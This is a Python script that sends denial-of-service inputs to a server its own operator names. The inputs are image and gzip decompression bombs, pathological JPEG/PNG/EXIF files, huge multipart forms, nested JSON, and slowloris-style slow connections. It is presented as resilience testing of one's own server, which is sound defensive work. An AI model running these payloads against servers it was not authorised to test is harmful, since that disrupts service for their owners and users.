"""Attacks a server, to see whether it keeps its promises to all other clients.

    python attacks.py http://127.0.0.1:8000 --seconds 10

Sends small files that would take a decoder minutes or gigabytes, forms that are slow to parse, and
other bodies; holds connections on which requests arrive slowly; and does not read answers.
Prints how many of each were sent and how they were answered. Attack only your own server.
"""

import argparse
import asyncio
import collections
import contextlib
import gzip
import io
import struct
import time
import zlib
from urllib.parse import urlsplit

from PIL import Image

SIZE = 4_000_000  # bytes of the longest files


def jpeg(size=(4000, 4000)):
    """A black progressive JPEG, as its beginning, its last scan and its end."""
    out = io.BytesIO()
    Image.new("RGB", size).save(out, "JPEG", progressive=True)
    data = out.getvalue()
    last = data.rindex(b"\xff\xda")
    return data[:last], data[last:-2], data[-2:]


def png():
    """A PNG, as its signature and header, and its remaining chunks."""
    out = io.BytesIO()
    Image.new("RGB", (64, 64)).save(out, "PNG")
    data = out.getvalue()
    return data[:33], data[33:]


def segment(marker, data):
    return bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data


def chunk(kind, data=b""):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def two_pictures():
    """The MPF segment of a file with two pictures, which Pillow then calls MPO instead of JPEG."""
    entries = struct.pack("<5I", 0x030000, 1000, 0, 0, 0)[:16] * 2
    directory = struct.pack(
        "<H HHI4s HHII HHII I",
        *(3, 0xB000, 7, 4, b"0100", 0xB001, 4, 1, 2, 0xB002, 7, len(entries), 50, 0),
    )
    return segment(0xE2, b"MPF\0II*\0" + struct.pack("<I", 8) + directory + entries)


def greedy_exif():
    """EXIF of 63 kB, whose thousand entries are 50 kB long because they overlap."""
    count = 1000
    entry = struct.Struct("<HHII")
    entries = [entry.pack(0x0112, 3, 1, 6)]
    entries += [entry.pack(0x8000 + i, 1, 50_000, 12_800) for i in range(count - 1)]
    return b"II*\0" + struct.pack("<IH", 8, count) + b"".join(entries) + bytes(50_800)


def files():
    """Attacks by name: `(bytes, headers)`."""
    (start, scan, end), (head, rest) = jpeg(), png()
    soi, tables = start[:2], start[2:]
    narrow, narrow_scan, _ = jpeg((64, 64))
    profile = chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(1_000_000), 9))
    texts = chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(1_000_000), 9))
    parts = b"--x\r\n\r\n\r\n" * (SIZE // 9)
    lines = b"--x\r\n" + b"content-disposition: x\n" * (SIZE // 23) + b"\r\n--x--"
    form = "Content-Type: multipart/form-data; boundary=x"
    parameters = 'Content-Type: multipart/form-data; a="' + ";" * 60_000
    found = {
        "hidden scans": soi + two_pictures() + tables + scan * (900_000 // len(scan)) + end,
        "scans": start + scan * 60_000 + end,
        "segments": soi + segment(0xE1, b"") * (SIZE // 4) + tables + scan + end,
        "fill bytes": narrow + b"\xff" * SIZE + narrow_scan + end,
        "EXIF": soi + segment(0xE1, b"Exif\0\0" + greedy_exif()) + narrow[2:] + narrow_scan + end,
        "chunks": head + chunk(b"tEXt") * (SIZE // 12) + rest,
        "empty pixels": head + chunk(b"IDAT") * (SIZE // 12) + rest,
        "profiles": head + profile * 2000 + rest,
        "texts": head + texts * 60 + rest,
        "50,000 × 50,000": head[:16] + struct.pack(">2I", 50_000, 50_000) + head[24:] + rest,
        "not complete": start + scan[: len(scan) // 2],
        "a form of many parts": (parts, form),
        "a form of many lines": (lines, form),
        "a form of many parameters": (lines[:50], parameters),
        "gzip": (gzip.compress(bytes(SIZE)), "Content-Encoding: gzip"),
        "JSON": b"[" * SIZE,
    }
    return {name: file if isinstance(file, tuple) else (file, "X: y") for name, file in found.items()}


def requests(host):
    """Requests by name, as bytes."""
    made = {}
    for name, (body, header) in files().items():
        head = f"POST /segment HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{header}\r\n"
        made[name] = f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body
    head = f"POST /segment HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n"
    made["tiny chunks"] = head.encode() + b"1\r\nx\r\n" * (SIZE // 6)
    return made


async def exchange(address, request):
    """The status of the answer, or 0 without one."""
    writer = None
    try:
        reader, writer = await asyncio.open_connection(*address)
        writer.write(request)
        return int((await reader.readline()).split()[1])
    except (OSError, IndexError, ValueError):
        return 0
    finally:
        if writer:
            writer.transport.abort()


async def hold(address, start, piece, counts, name):
    """Opens a connection again and again, and sends a piece each second until the server closes it."""
    while True:
        writer = None
        try:
            _, writer = await asyncio.open_connection(*address, limit=1000)
            counts[name, "opened"] += 1
            writer.write(start)
            while not writer.is_closing():
                writer.write(piece)
                await writer.drain()
                await asyncio.sleep(1)
        except OSError:
            pass
        finally:
            if writer:
                writer.transport.abort()
        counts[name, "closed"] += 1
        await asyncio.sleep(0.5)


async def attack(address, host, seconds, together):
    """Attacks for so many seconds; returns the number of each `(attack, status)`."""
    counts, end = collections.Counter(), time.monotonic() + seconds
    made = list(requests(host).items())

    async def send(i):
        while time.monotonic() < end:
            name, request = made[i % len(made)]
            counts[name, await exchange(address, request)] += 1
            i += together

    head = f"POST /segment HTTP/1.1\r\nHost: {host}\r\n".encode()
    get = f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
    held = {
        "slow headers": (400, head, b"X-More: 1\r\n"),
        "slow bodies": (200, head + b"Content-Length: 100000\r\n\r\n", b"\xff"),
        "unread answers": (10, get * 100, get * 10),
    }
    holders = [
        asyncio.create_task(hold(address, *pieces, counts, name))
        for name, (count, *pieces) in held.items()
        for _ in range(count)
    ]
    try:
        await asyncio.gather(*map(send, range(together)))
    finally:
        for task in holders:
            task.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await asyncio.gather(*holders, return_exceptions=True)
    return counts


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("url", help="your own server")
    parser.add_argument("--seconds", type=float, default=10, help="length of the attack")
    parser.add_argument("--together", type=int, default=4, help="files that are sent at the same time")
    options = parser.parse_args()
    url = urlsplit(options.url)
    address = (url.hostname, url.port or 80)
    counts = asyncio.run(attack(address, url.netloc, options.seconds, options.together))
    for (name, status), count in sorted(counts.items(), key=str):
        print(f"    {name}: {count} × {status or 'no answer'}")


if __name__ == "__main__":
    main()
